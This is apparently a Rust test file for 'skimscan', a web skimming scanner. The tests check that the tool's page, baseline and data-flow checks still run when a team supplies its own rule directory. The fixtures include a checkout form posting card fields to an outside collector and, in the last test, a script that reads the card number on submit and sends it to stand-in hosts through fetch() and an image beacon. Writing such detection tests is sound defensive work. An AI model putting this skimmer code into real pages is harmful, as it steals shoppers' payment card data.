//! Issue 7 ("never silently clean"): rule directories. `--no-default-rules --rules DIR` (a
//! team's own rule set) used to drop every page and baseline check with the shipped rules, so
//! a payment form posting to an attacker passed the gate; and a misspelt data file in a rules
//! directory loaded, extended nothing, and said nothing. Each test here failed that way.

mod common;
use common::*;
use predicates::prelude::*;
use std::path::Path;

/// A temporary folder holding a team's rules directory (`our-rules/`, see [`own_rules`]).
fn with_own_rules() -> (tempfile::TempDir, std::path::PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("our-rules");
    own_rules(&rules);
    (dir, rules)
}

/// Scan `page` (written into `dir`) with only the team's rules.
fn scan_with_own_rules(dir: &Path, rules: &Path, page: &str) -> (i32, serde_json::Value, String) {
    let page = write_file(dir, "checkout.html", page);
    scan_json(&[
        "--no-default-rules",
        "--rules",
        rules.to_str().unwrap(),
        page.to_str().unwrap(),
    ])
}

/// A team's own rules directory: one code rule of theirs and nothing else.
fn own_rules(dir: &Path) {
    write_file(
        dir,
        "code/no-eval.toml",
        r#"id = "team-no-eval"
title = "eval on a payment page"
severity = "medium"
kind = "code"
[doc]
what = "Reports hidden code execution."
why = "Our checkout never uses eval."
example = "eval(x)"
[match]
fact = "hidden-code"
hidden = true
"#,
    );
}

const HIJACKED_CHECKOUT: &str = r#"<!doctype html><html><head><meta charset="utf-8"><title>Checkout</title></head><body>
<form action="https://secure-payments-gateway.example/collect.php" method="post">
  <input name="payment[cc_number]" autocomplete="cc-number">
  <input name="payment[cc_cid]" autocomplete="cc-csc">
  <button>Place order</button>
</form></body></html>"#;

#[test]
fn page_checks_run_without_the_shipped_rules() {
    let (dir, rules) = with_own_rules();
    let (code, report, stderr) = scan_with_own_rules(dir.path(), &rules, HIJACKED_CHECKOUT);
    assert_eq!(code, 1, "{stderr}\n{report:#}");
    let r = rules_of(&report);
    assert!(r.contains(&"form-action-outside".to_string()), "{report:#}");
    assert!(r.contains(&"csp-missing".to_string()), "{report:#}");
}

#[test]
fn a_rules_directory_may_redefine_a_pipeline_rule() {
    let (dir, rules) = with_own_rules();
    write_file(
        &rules,
        "page/csp-missing.toml",
        r#"id = "csp-missing"
title = "No CSP on a payment page (our policy: blocking)"
severity = "high"
kind = "page"
[doc]
what = "w"
why = "y"
example = "e"
"#,
    );
    let (code, report, stderr) = scan_with_own_rules(
        dir.path(),
        &rules,
        "<form action=\"/pay\"><input name=\"cardnumber\" autocomplete=\"cc-number\"></form>",
    );
    assert_eq!(code, 1, "{stderr}\n{report:#}");
    let f = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "csp-missing")
        .unwrap_or_else(|| panic!("{report:#}"));
    assert_eq!(f["severity"], "high");
}

#[test]
fn baseline_checks_run_without_the_shipped_rules() {
    let (dir, rules) = with_own_rules();
    let site = dir.path().join("dist");
    let page = |extra: &str| {
        format!(
            "<!doctype html><meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'self'; connect-src 'self'; form-action 'self'\"><form action=\"/pay\"><input name=\"cardnumber\" autocomplete=\"cc-number\"></form>{extra}"
        )
    };
    write_file(&site, "checkout/index.html", page(""));
    let base = dir.path().join("baseline.json");
    let rules_arg = rules.to_str().unwrap();
    skimscan()
        .args([
            "baseline",
            "create",
            "--no-default-rules",
            "--rules",
            rules_arg,
            "--out",
        ])
        .arg(&base)
        .arg(&site)
        .assert()
        .code(0);
    write_file(
        &site,
        "checkout/index.html",
        page("<script>document.title = 'Checkout';</script>"),
    );
    let (code, report, stderr) = scan_json(&[
        "--no-default-rules",
        "--rules",
        rules_arg,
        "--baseline",
        base.to_str().unwrap(),
        site.to_str().unwrap(),
    ]);
    assert_eq!(code, 1, "{stderr}\n{report:#}");
    assert!(
        rules_of(&report).contains(&"baseline-new-script".to_string()),
        "{report:#}"
    );
}

#[test]
fn an_unknown_data_file_is_a_usage_error_naming_it() {
    let (dir, rules) = with_own_rules();
    write_file(
        &rules,
        "data/payment-vocabulry.toml",
        "words = [\"kartennummer\"]\n",
    );
    let page = write_file(dir.path(), "checkout.html", HIJACKED_CHECKOUT);
    skimscan()
        .args([
            "scan",
            "--rules",
            rules.to_str().unwrap(),
            page.to_str().unwrap(),
        ])
        .assert()
        .code(2)
        .stdout(predicate::str::is_empty())
        .stderr(predicate::str::contains("payment-vocabulry.toml"))
        .stderr(predicate::str::contains("unknown data file"));
    // A correctly named one loads.
    std::fs::rename(
        rules.join("data/payment-vocabulry.toml"),
        rules.join("data/payment-vocabulary.toml"),
    )
    .unwrap();
    skimscan()
        .args(["rules", "list", "--rules", rules.to_str().unwrap()])
        .assert()
        .code(0)
        .stdout(predicate::str::contains("team-no-eval"));
}

#[test]
fn rules_list_shows_the_pipeline_rules_that_stay() {
    let dir = tempfile::tempdir().unwrap();
    own_rules(dir.path());
    skimscan()
        .args([
            "rules",
            "list",
            "--no-default-rules",
            "--rules",
            dir.path().to_str().unwrap(),
        ])
        .assert()
        .code(0)
        .stdout(predicate::str::contains("team-no-eval"))
        .stdout(predicate::str::contains("form-action-outside"))
        .stdout(predicate::str::contains("baseline-new-script"))
        .stdout(predicate::str::contains("payment-data-exfiltration").not());
}

/// The Web-API catalogue (which calls send, which argument is the URL) describes the browser,
/// not a policy: a team's own flow rule under `--no-default-rules` must still see `fetch` and
/// `new Image().src` as sinks, or every skimmer would pass their gate as clean.
#[test]
fn a_teams_own_flow_rule_still_knows_the_browsers_sinks() {
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("our-rules");
    write_file(
        &rules,
        "code/card-leaves.toml",
        r#"id = "team-card-leaves"
title = "Card data leaves the shop"
severity = "critical"
kind = "code"
[doc]
what = "Card data reaching a sink whose destination is outside."
why = "Our checkout only talks to our API and our processor."
example = "fetch('https://x.example', {body: cc.value})"
[match]
fact = "flow"
sources = ["payment"]
destinations = ["outside"]
"#,
    );
    let page = r#"<!doctype html><html><head><meta charset="utf-8"><title>Checkout</title></head><body>
<form action="/pay" method="post"><input id="cc_number" name="cc_number" autocomplete="cc-number"><button>Pay</button></form>
<script>
document.querySelector('form').addEventListener('submit', function () {
  var n = document.getElementById('cc_number').value;
  fetch('https://cdn-metrics.example/c', {method: 'POST', body: btoa(n)});
  new Image().src = 'https://pixel-stats.example/p?d=' + encodeURIComponent(n);
});
</script></body></html>"#;
    let (code, report, stderr) = scan_with_own_rules(dir.path(), &rules, page);
    assert_eq!(code, 1, "{stderr}\n{report:#}");
    let hosts: Vec<String> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "team-card-leaves")
        .flat_map(|f| f["hosts"].as_array().cloned().unwrap_or_default())
        .filter_map(|h| h.as_str().map(str::to_string))
        .collect();
    assert!(
        hosts.iter().any(|h| h == "cdn-metrics.example"),
        "{report:#}"
    );
    assert!(
        hosts.iter().any(|h| h == "pixel-stats.example"),
        "{report:#}"
    );
}
